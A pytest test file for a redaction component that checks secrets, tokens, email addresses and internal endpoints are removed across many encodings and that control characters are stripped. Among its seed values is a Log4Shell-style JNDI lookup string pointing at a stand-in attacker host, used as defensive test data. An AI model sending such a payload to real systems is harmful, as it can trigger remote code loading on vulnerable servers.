"""The redactor as a choke point: what it learns is gone from every text, in every encoding, and stays gone."""

from __future__ import annotations

import base64
import html
import json
import logging
import textwrap
from collections.abc import Callable
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evreview.core.control_characters import visible
from evreview.core.errors import Problem
from evreview.redaction.detector import Clean, Kind
from evreview.redaction.detectors import DETECTORS
from evreview.redaction.redactor import Redactor
from evreview.redaction.scanner import scan
from evreview.redaction.sinks import redact_logs

SECRET = "q7Rx2Lv9" + "tBzW/8+k&Y"
LEARNT = f'db_password: "{SECRET}"'

ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "upper case": str.upper,
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
    "base64 inside": lambda v: base64.b64encode(f"user:{v};".encode()).decode(),
    "base64 inside, shifted": lambda v: base64.b64encode(f"us:{v};x".encode()).decode(),
    "base64 url": lambda v: base64.urlsafe_b64encode(f"u:{v}".encode()).decode(),
    "base64 in lines": lambda v: "\n".join(textwrap.wrap(base64.b64encode(v.encode()).decode(), 7)),
    "hex": lambda v: v.encode().hex(),
    "HEX": lambda v: v.encode().hex().upper(),
    "url": lambda v: quote(v, safe=""),
    "url, lower case": lambda v: quote(v, safe="").replace("%2F", "%2f"),
    "url, twice": lambda v: quote(quote(v, safe=""), safe=""),
    "url, plus": quote_plus,
    "url, every character": lambda v: "".join(f"%{ord(c):02X}" for c in v),
    "json": lambda v: json.dumps(v)[1:-1].replace("/", "\\/"),
    "json, every character": lambda v: "".join(f"\\u{ord(c):04x}" for c in v),
    "html": lambda v: html.escape(v),
    "html numbers": lambda v: "".join(f"&#{ord(c)};" for c in v),
    "html hex numbers": lambda v: "".join(f"&#x{ord(c):x};" for c in v),
    "markdown": lambda v: v.replace("/", "\\/").replace("+", "\\+").replace("&", "\\&"),
    "split over lines": lambda v: f"{v[:7]}\n    {v[7:]}",
    "split in a string": lambda v: f'"{v[:7]}" +\n  "{v[7:]}"',
    "split in json": lambda v: f"{v[:7]}\\n{v[7:]}",
    "split in a cell": lambda v: f"{v[:7]}<br>{v[7:]}",
    "zero width": lambda v: f"{v[:7]}\u200b{v[7:]}",
    "terminal escape": lambda v: f"{v[:7]}\x1b[31m{v[7:]}",
    "soft hyphen": lambda v: f"{v[:7]}\u00ad{v[7:]}",
}

SEEDS = {
    "C-027": ("k8_signing_secret = ", "v3Lq9ZpT7wRb5YxK"),
    "C-028": ("postgres://orders:", "q7Rx2Lv9tB"),
    "C-029": ("X-Token: ", "gh" + "p_Zk3vR8tYq2LmN7wXc5Bh9JdF4sGp6TaUe1Ki"),
    "C-030": ("reported by ", "ines.moreau" + "@harbourline.fr"),
    "C-031": ("customer_id=", "C-48213977"),
    "C-032": ("raised ", "org.harbour.orders.StoreException: row 17 is locked"),
    "C-033": ("calls https://", "ledger-7.pay.internal"),
    "C-034": ("payload ", "${jn" + "di:ldap://attack.invalid/a}"),
}


def seeded(number: str) -> tuple[str, str]:
    lead, value = SEEDS[number]
    tail = "@db.example.com/orders" if number == "C-028" else ""
    return f"{lead}{value}{tail}", value


@pytest.mark.req("C-027", "C-028", "C-029")
@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS)
def test_a_value_found_once_is_removed_in_every_encoding(encode: Callable[[str], str]) -> None:
    redactor = Redactor.over([("E3", LEARNT)])
    encoded = encode(SECRET)
    clean = redactor.clean(f"It says {encoded} here.")
    assert encoded not in clean
    assert SECRET not in clean
    assert "[redacted: secret]" in clean
    assert clean.startswith("It says ") and clean.endswith(" here.")
    assert redactor.leaks(f"It says {encoded} here.")
    assert not redactor.leaks(clean)


@pytest.mark.parametrize(
    ("number"), [pytest.param(number, marks=pytest.mark.req(number)) for number in SEEDS], ids=list(SEEDS)
)
def test_each_kind_of_value_is_learnt_and_removed(number: str) -> None:
    text, value = seeded(number)
    redactor = Redactor.over([("E5", f"line one\n{text}\n")])
    assert [(found.location, found.lines) for found in redactor.findings] == [("E5", (2,))] * len(redactor.findings)
    assert redactor.findings
    assert value not in repr(redactor.findings) + repr(redactor)
    for elsewhere in (value, f"the value {value}.", base64.b64encode(value.encode()).decode(), quote(value, safe="")):
        assert value not in redactor.clean(elsewhere)
        assert "[redacted: " in redactor.clean(elsewhere)


@pytest.mark.req("C-027")
@pytest.mark.parametrize("before", ["\\n", "\\t", "\\r\\n", "%0A", "%09", "\\u000a", "\\x0a"])
def test_a_short_value_is_removed_behind_an_escape_that_ends_like_a_word(before: str) -> None:
    redactor = Redactor.over([("E1", "password: q7Rx2L9!")])
    assert (
        redactor.clean(f'{{"note": "one{before}q7Rx2L9! two"}}') == f'{{"note": "one{before}[redacted: secret] two"}}'
    )
    assert redactor.clean("oneq7Rx2L9! two") == "oneq7Rx2L9! two"


def test_a_basic_header_gives_its_password_away_nowhere() -> None:
    header = "Authorization: Basic " + base64.b64encode(b"orders:q7Rx2Lv9tB").decode()
    redactor = Redactor.over([("E1", header)])
    assert "q7Rx2Lv9tB" not in redactor.clean("the password q7Rx2Lv9tB is set")


def test_a_password_of_a_url_is_removed_without_the_url() -> None:
    redactor = Redactor.over([("E1", "amqp://svc:q7Rx2Lv9tB@mq.example.com")])
    assert "q7Rx2Lv9tB" not in redactor.clean("q7Rx2Lv9tB")


def test_every_line_of_a_trace_is_removed_alone() -> None:
    line = "at org.harbour.orders.Store.load(Store.java:88)"
    redactor = Redactor.over([("E1", f"Exception\n\t{line}\n")])
    assert "Store.java" not in redactor.clean(f"we saw {line}")


@given(
    st.lists(
        st.sampled_from(
            [detector.sample for detector in DETECTORS]
            + [SECRET, "[redacted: token]", " ", "\n", '"', "%41", "&lt;", "\\", ":"]
        ),
        max_size=5,
    ),
    st.text(max_size=12),
)
@settings(max_examples=150, deadline=None)
def test_cleaning_twice_changes_nothing(parts: list[str], text: str) -> None:
    redactor = Redactor.over([("E3", LEARNT)])
    clean = redactor.clean(text.join(parts))
    assert redactor.clean(clean) == clean
    assert redactor.leaks(clean) == ()


@given(st.text(alphabet=st.characters(codec="utf-8", categories=["L", "P", "Zs", "S"]), max_size=60))
@settings(max_examples=150, deadline=None)
def test_words_without_values_stay(text: str) -> None:
    if not scan(visible(text)) and not Redactor().leaks(text):
        assert Redactor().clean(text) == visible(text)


@given(st.text(max_size=60))
def test_visible_twice_is_visible_once(text: str) -> None:
    assert visible(visible(text)) == visible(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\x1b[31mred\x1b[0m", "ared"),
        ("a\x1b]0;title\x07b", "ab"),
        ("a\u202eb\u2066c", "abc"),
        ("a\u200b\ufeffb", "ab"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("a\x00b\x07", "a\ufffdb\ufffd"),
        ("\ud800", "\ufffd"),
        ("tab\tstays\n", "tab\tstays\n"),
    ],
)
def test_acting_characters_are_stripped_or_shown(text: str, expected: str) -> None:
    assert visible(text) == expected


def test_keys_and_values_of_structures_are_cleaned() -> None:
    redactor = Redactor.over([("E3", LEARNT)])
    cleaned = redactor.clean_json(
        {SECRET: 1, f"{SECRET} ": [SECRET, {"password": "aQ7-lonely"}], "card": 4929718344152068, "n": 3, "t": True}
    )
    assert isinstance(cleaned, dict)
    text = json.dumps(cleaned)
    assert SECRET not in text and "aQ7-lonely" not in text and "4929718344152068" not in text
    assert len(cleaned) == 5
    assert cleaned["n"] == 3 and cleaned["t"] is True
    assert redactor.clean_json(cleaned) == cleaned


def test_findings_are_sorted_counted_and_by_location() -> None:
    redactor = Redactor.over([("E2", f"{LEARNT}\n{LEARNT}"), ("E1", "x 10.83.4.17 y")])
    assert [(f.location, f.kind, f.lines, f.count) for f in redactor.findings] == [
        ("E1", Kind.PRIVATE_ENDPOINT, (1,), 1),
        ("E2", Kind.SECRET, (1, 2), 2),
    ]


def test_short_values_do_not_hit_other_words() -> None:
    redactor = Redactor.over([("E1", "password: orde7!")])
    assert redactor.clean("the disorde7!s stay") == "the disorde7!s stay"
    assert redactor.clean("it is orde7! now") == "it is [redacted: secret] now"


def test_a_message_keeps_the_users_own_paths_but_not_the_evidences() -> None:
    path, other = "/home/ines/review/review.yaml", "/home/otto/orders/handlers.py"
    redactor = Redactor.over([("E1", f"File: {other}")])
    assert path in redactor.clean_message(f"{path}: bad")
    assert other not in redactor.clean_message(f"{other}: bad")
    assert path not in redactor.clean(f"{path}: bad")
    problem = redactor.clean_problem(Problem(code="x", found=f"found {other}", file=path))
    assert (problem.file, problem.found) == (path, "found [redacted: file path]")


def test_log_records_and_tracebacks_are_cleaned(caplog: pytest.LogCaptureFixture) -> None:
    logger = logging.getLogger("evreview.test_guard")
    redact_logs(Redactor.over([("E3", LEARNT)]), logger)
    with caplog.at_level(logging.INFO, logger=logger.name):
        logger.info("read %s", SECRET)
        try:
            raise ValueError(SECRET)
        except ValueError:
            logger.exception("failed with %r", SECRET)
    assert len(caplog.records) == 2
    shown = caplog.text + "".join(record.getMessage() + (record.exc_text or "") for record in caplog.records)
    assert SECRET not in shown


def test_two_guards_over_the_same_texts_agree() -> None:
    texts = [(f"E{n}", detector.sample) for n, detector in enumerate(DETECTORS, 1)]
    one, two = Redactor.over(texts), Redactor.over(texts)
    joined = "\n".join(text for _, text in texts)
    assert one.findings == two.findings
    assert one.clean(joined) == two.clean(joined)
    assert isinstance(one.clean(joined), str) and one.clean(joined) == Clean(one.clean(joined))


ADDRESS = "alice.smith" + "@bigcorp.com"


@pytest.mark.req("C-030")
@pytest.mark.parametrize(
    "text",
    [
        f"/users/{ADDRESS}",
        f"see users/{ADDRESS}, twice",
        f"mail/{ADDRESS}/keys.json",
        f"-{ADDRESS}",
        f"--to={ADDRESS}",
        f"{'a-' * 80}{ADDRESS}",
        f"//{ADDRESS}",
        "j\u00fcrgen" + "@b\u00fccher.de",
        "alice.smith" + "\uff20bigcorp.com",
        "alice.smith" + "@xn--bcher-kva.xn--p1ai",
    ],
)
def test_a_mail_address_is_seen_whatever_stands_in_front(text: str) -> None:
    for shown in (Redactor().clean(text), Redactor().clean_message(text)):
        assert "[redacted: personal data]" in shown
        assert "bigcorp" not in shown and "cher" not in shown
    assert Redactor().leaks(text)
    problem = Redactor().clean_problem(Problem(code="x", found=text, file=text, place=text))
    assert "bigcorp" not in repr(problem) and "cher" not in repr(problem)


def test_nothing_but_the_value_is_removed_from_a_text_with_escapes_in_escapes() -> None:
    text = '%2541 \\"one\\" ' + "word " * 50 + ADDRESS + " end %2541"
    assert Redactor().clean(text) == text.replace(ADDRESS, "[redacted: personal data]")


TOKEN = "gh" + "p_Zk3vR8tYq2LmN7wXc5Bh9JdF4sGp6TaUe1Ki"
QUOTED = quote(ADDRESS, safe="")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"[E1#/components/schemas/Pet/properties/{ADDRESS}]", "[E1#/components/schemas/Pet/properties]"),
        (f"[E1#/Pet/properties/{QUOTED}/type, E2:L3]", "[E1#/Pet/properties, E2:L3]"),
        (f"(E12#/Pet/{TOKEN}, E3:id={TOKEN})", "(E12#/Pet, E3)"),
        (f"[E1#/{TOKEN}]", "[E1#]"),
        (f"| x | E1:file=a/{TOKEN}.yaml#/a/b, E2 |", "| x | E1, E2 |"),
        (f"[E1:file=a.yaml#/a/{TOKEN}/c]", "[E1:file=a.yaml#/a]"),
        ("[E1#/hosts/10.83.4.17/a/10.83.4.18]", "[E1#/hosts]"),
        (f"{TOKEN} [E1#/a/{TOKEN}] {TOKEN}", "[redacted: token] [E1#/a] [redacted: token]"),
        ("[E1#/a/b]", "[E1#/a/b]"),
    ],
)
def test_a_locator_with_a_value_in_it_ends_before_the_value(text: str, expected: str) -> None:
    redactor = Redactor.over([("E1", f"{TOKEN} {ADDRESS} 10.83.4.17")])
    for one in (Redactor(), redactor):
        assert one.clean(text) == expected
        assert one.clean_json([text]) == [expected]
        assert one.leaks(text) == () if text == expected else one.leaks(text)
        assert one.leaks(expected) == ()


def test_text_that_this_redactor_did_not_clean_is_searched_in_full() -> None:
    redactor = Redactor()
    clean = redactor.clean("x " * 2000)
    assert redactor.leaks(clean) == ()
    assert redactor.leaks(f"{clean}{ADDRESS}")
    message = redactor.clean_message("/home/ines/orders/handlers.py " * 90)
    assert redactor.leaks(message)
